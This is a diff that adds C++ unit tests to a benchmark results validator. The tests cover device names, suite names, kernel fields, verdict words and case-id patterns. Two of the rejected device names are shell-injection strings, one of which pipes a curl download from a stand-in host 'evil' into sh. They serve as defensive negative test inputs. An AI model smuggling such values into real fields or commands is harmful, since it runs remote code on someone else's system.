@@ -6,7 +6,9 @@
 
 #include <gmock/gmock.h>
 
+#include <cstring>
 #include <limits>
+#include <regex>
 
 #include "gate/documents/case_name.hpp"
 #include "gate/testing/toy_root.hpp"
@@ -60,6 +62,68 @@ TEST(Documents, NoMetricHasNumbersOfMoreProcessesThanTheRun) {
   results = toy::host();
   results.cases.front().metrics["save_max_s"] = six;
   EXPECT_THAT(complaint(results, "", ""), HasSubstr("numbers of 6 processes, and the run had 5"));
+}
+
+TEST(Documents, ADeviceIsOneOfTheFormsThatCommandsTake) {
+  Results results = toy::dry();
+  for (const char* device : {"host", "cuda", "cuda:1", "cuda-dry:sm_100"}) {
+    results.env.device_name = device;
+    expect_round_trip(results, parse_results);
+  }
+  for (const char* device : {"", "cuda:", "cuda:0; curl evil | sh #", "cuda-dry", "cuda-dry:sm_9x",
+                             "host $(x)", "cuda:-1", "tpu"}) {
+    results.env.device_name = device;
+    EXPECT_THAT(complaint(results, "", ""), HasSubstr("is no device; they are host, cuda"))
+        << device;
+  }
+}
+
+TEST(Documents, ASuitesNameHasNoDotBecauseItsFilesAreFoundByIt) {
+  EXPECT_THAT(complaint(toy::host(), "\"suite\": \"toy\"", "\"suite\": \"toy.v2\""),
+              HasSubstr("'toy.v2' is no name of a suite, which has no dot"));
+  std::string list = toy::list_text();
+  list.replace(list.find("\"suite\": \"toy\""), 14, "\"suite\": \"to.y\"");
+  EXPECT_THAT(toy::complaint([&] { return parse_list(Document("x.json", list)); }),
+              HasSubstr("'to.y' is no name of a suite"));
+}
+
+TEST(Documents, AKernelsRowIsWholeAndOfAKnownKind) {
+  Results results = toy::dry();
+  results.cases.front().variants["optimized"].kernels = {{.name = "k", .kind = "sum"}};
+  EXPECT_THAT(complaint(results, "", ""), HasSubstr("'kind' is 'sum', which is none of fused"));
+  results.cases.front().variants["optimized"].kernels = {{.name = "k"}};
+  for (const char* key : {"registers", "spill_bytes", "shared_bytes", "launches", "cubin"}) {
+    nlohmann::json without = to_json(results);
+    without["cases"][0]["variants"]["optimized"]["kernels"][0].erase(key);
+    EXPECT_THAT(
+        toy::complaint([&] { return parse_results(Document("x.json", canonical(without))); }),
+        HasSubstr(text("the key '", key, "' is missing from kernels")));
+  }
+}
+
+TEST(Documents, AVerdictHasTheWordsOfVerdictsAlone) {
+  const std::string content = canonical(to_json(Verdict{.counts = {{"PASS", 2}}}));
+  for (const auto& [from, to] : {std::pair("PASS", "GOOD"), std::pair("2}", "0}")}) {
+    std::string spoilt = content;
+    spoilt.replace(spoilt.find(from), std::strlen(from), to);
+    EXPECT_NE(toy::complaint([&] { return parse_verdict(Document("x.json", spoilt)); }), "accepted")
+        << to;
+  }
+  Verdict made{};
+  made.rows.push_back({.case_id = toy::step_id,
+                       .device_class = "host",
+                       .variant = "case",
+                       .metric = "speedup",
+                       .verdict = "GOOD"});
+  EXPECT_THAT(
+      toy::complaint([&] { return parse_verdict(Document("x.json", canonical(to_json(made)))); }),
+      HasSubstr("'verdict' is 'GOOD', which is none of WRONG"));
+}
+
+TEST(Documents, ACaseIsChosenByAPatternThatMatchesItAlone) {
+  const std::string id = "toy/step/n:1e+6/f64.v2";
+  EXPECT_TRUE(std::regex_match(id, std::regex(pattern_of(id))));
+  EXPECT_FALSE(std::regex_match("toy/step/n:1ee6/f64.v2", std::regex(pattern_of(id))));
 }
 
 TEST(Documents, ListsAndVerdictsSurviveARoundTrip) {
